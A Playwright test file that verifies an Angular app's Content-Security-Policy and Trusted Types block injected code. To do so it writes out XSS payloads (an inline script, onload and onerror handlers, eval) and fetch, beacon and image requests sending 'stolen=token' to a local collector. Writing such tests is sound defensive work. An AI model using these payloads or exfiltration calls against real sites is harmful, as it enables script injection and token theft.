import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import type { CspViolation, CspViolationMonitor } from './support/csp-violations';
import { expect, test } from './support/fixtures';

/** TypeScript's DOM types do not know Trusted Types yet. */
interface TrustedTypesWindow {
  trustedTypes: { createPolicy(name: string, rules: object): unknown };
}

/**
 * The policy as the browser enforces it on the served SPA. What an attacker would smuggle in is
 * injected through the DevTools protocol (a rewritten response, `page.evaluate`), never by
 * changing the build. Every other spec runs with zero violations allowed (see fixtures.ts).
 */
test.describe('the Content-Security-Policy bites', () => {
  test('the SPA styles its components through the nonce, and no inline style or script is needed', async ({
    page,
  }) => {
    await page.goto('/logged-out');
    await expect(page.getByRole('heading', { level: 1, name: 'You are signed out' })).toBeVisible();
    const styles = await page.evaluate(() => {
      const root = document.querySelector('app-root');
      return {
        rootNonce: root?.getAttribute('ngcspnonce'),
        componentStyleNonces: Array.from(
          document.querySelectorAll('style'),
          (style) => style.nonce,
        ),
      };
    });
    expect(styles.rootNonce).toMatch(/^[0-9a-f]{32}$/);
    expect(styles.componentStyleNonces.length).toBeGreaterThan(0);
    expect(new Set(styles.componentStyleNonces)).toEqual(new Set([styles.rootNonce]));
  });

  test('an inline script and an inline event handler in the page do not run', async ({
    page,
    cspViolations,
  }) => {
    // What a reflected or stored XSS would put into the HTML, with the real response's headers.
    await page.route('**/logged-out', async (route) => {
      const response = await route.fetch();
      const html = (await response.text()).replace(
        '<body>',
        `<body><script>window.__injected = 'script ran'</script>` +
          `<img src="favicon.ico" onload="window.__injected = 'handler ran'">`,
      );
      await route.fulfill({ response, body: html });
    });

    const violations = await cspViolations.during(() => page.goto('/logged-out'));

    await expect(page.getByRole('heading', { level: 1, name: 'You are signed out' })).toBeVisible();
    expect(
      await page.evaluate(() => (window as { __injected?: string }).__injected),
    ).toBeUndefined();
    expect(events(violations)).toEqual([
      expect.objectContaining({ directive: 'script-src-elem', blockedUri: 'inline' }),
      expect.objectContaining({ directive: 'script-src-attr', blockedUri: 'inline' }),
    ]);
    expect(violations.filter(({ source }) => source === 'console')).toEqual([
      expect.objectContaining({ text: expect.stringMatching(/^Executing inline script violates/) }),
      expect.objectContaining({ text: expect.stringMatching(/^Executing inline event handler/) }),
    ]);
  });

  test('eval and new Function are refused', async ({ page, cspViolations }) => {
    await page.goto('/logged-out');
    const { outcome, refused } = await refusedIn(
      page,
      cspViolations,
      () =>
        // From a task of the page's own: code evaluated through DevTools may call eval regardless.
        new Promise<string[]>((resolve) =>
          setTimeout(() =>
            resolve(
              [() => eval('"eval ran"'), () => new Function('return "Function ran"')()].map(
                (run) => {
                  try {
                    return String(run());
                  } catch (error) {
                    return (error as Error).name;
                  }
                },
              ),
            ),
          ),
        ),
    );
    expect(outcome).toEqual(['EvalError', 'EvalError']);
    // Trusted Types refuses the string first; script-src without 'unsafe-eval' would be next.
    expect(refused).toEqual([
      ['require-trusted-types-for', 'trusted-types-sink'],
      ['require-trusted-types-for', 'trusted-types-sink'],
    ]);
  });

  test('Trusted Types: a string never reaches innerHTML, and no other policy can be made', async ({
    page,
    cspViolations,
  }) => {
    await page.goto('/logged-out');
    const { outcome, refused } = await refusedIn(page, cspViolations, () => {
      const attempt = (run: () => unknown) => {
        try {
          run();
          return 'allowed';
        } catch (error) {
          return (error as Error).name;
        }
      };
      const main = document.querySelector('main') as HTMLElement;
      return {
        innerHTML: attempt(() => (main.innerHTML = '<img src=x onerror="alert(1)">')),
        scriptText: attempt(() => {
          const script = document.createElement('script');
          script.text = 'window.__injected = "ran"';
          document.head.append(script);
        }),
        // Angular's pass-through policy (bypassSecurityTrust…) is deliberately not allowed.
        bypassPolicy: attempt(() =>
          (window as unknown as TrustedTypesWindow).trustedTypes.createPolicy(
            'angular#unsafe-bypass',
            { createHTML: (html: string) => html },
          ),
        ),
      };
    });
    expect(outcome).toEqual({
      innerHTML: 'TypeError',
      scriptText: 'TypeError',
      bypassPolicy: 'TypeError',
    });
    expect(await page.locator('main img').count()).toBe(0);
    expect(refused).toEqual([
      ['require-trusted-types-for', 'trusted-types-sink'],
      ['require-trusted-types-for', 'trusted-types-sink'],
      ['trusted-types', 'trusted-types-policy'],
    ]);
  });

  test.describe('nothing leaves for an origin outside connect-src and img-src', () => {
    let collector: Server;
    let collectorOrigin: string;
    const received: string[] = [];

    test.beforeAll(async () => {
      collector = createServer((req, res) => {
        received.push(req.url ?? '');
        res.writeHead(204, { 'access-control-allow-origin': '*' }).end();
      });
      await new Promise<void>((resolve) => collector.listen(0, '127.0.0.1', resolve));
      collectorOrigin = `http://127.0.0.1:${(collector.address() as AddressInfo).port}`;
    });

    test.afterAll(async () => {
      await new Promise((resolve) => collector.close(resolve));
    });

    test('fetch, a beacon and an image to another origin are blocked before any request', async ({
      page,
      cspViolations,
    }) => {
      await page.goto('/logged-out');
      const { outcome, refused } = await refusedIn(
        page,
        cspViolations,
        async (origin) => {
          const fetched = await fetch(`${origin}/fetch?stolen=token`).then(
            () => 'sent',
            (error: Error) => error.name,
          );
          // Queued either way: the policy stops the request itself.
          navigator.sendBeacon(`${origin}/beacon`, 'stolen=token');
          const image = await new Promise<string>((resolve) => {
            const img = new Image();
            img.onload = () => resolve('loaded');
            img.onerror = () => resolve('error');
            img.src = `${origin}/image?stolen=token`;
          });
          return { fetched, image };
        },
        collectorOrigin,
      );
      expect(outcome).toEqual({ fetched: 'TypeError', image: 'error' });
      expect(refused).toEqual(
        expect.arrayContaining([
          ['connect-src', `${collectorOrigin}/fetch?stolen=token`],
          ['connect-src', `${collectorOrigin}/beacon`],
          ['img-src', `${collectorOrigin}/image?stolen=token`],
        ]),
      );
      expect(received).toEqual([]);
    });
  });
});

test('a violation that no test takes fails the test: the guard every spec runs under', async ({
  page,
  cspViolations,
}) => {
  test.fail();
  await page.goto('/logged-out');
  await page.evaluate(() => fetch('https://elsewhere.example/').catch(() => undefined));
  await expect.poll(() => cspViolations.leftOver().length).toBeGreaterThan(0);
});

function events(violations: CspViolation[]): CspViolation[] {
  return violations.filter(({ source }) => source === 'event');
}

/**
 * Runs `script` in the page as injected code would run, and returns what it returned and the
 * `[directive, blockedURI]` of every refusal the policy reported meanwhile.
 */
async function refusedIn<Result, Arg = undefined>(
  page: Page,
  cspViolations: CspViolationMonitor,
  script: (arg: Arg) => Result | Promise<Result>,
  arg?: Arg,
): Promise<{ outcome: Result; refused: string[][] }> {
  let outcome: Result | undefined;
  const violations = await cspViolations.during(async () => {
    outcome = await page.evaluate(script as (arg: unknown) => Result | Promise<Result>, arg);
  });
  return {
    outcome: outcome as Result,
    refused: events(violations).map(({ directive, blockedUri }) => [
      directive ?? '',
      blockedUri ?? '',
    ]),
  };
}
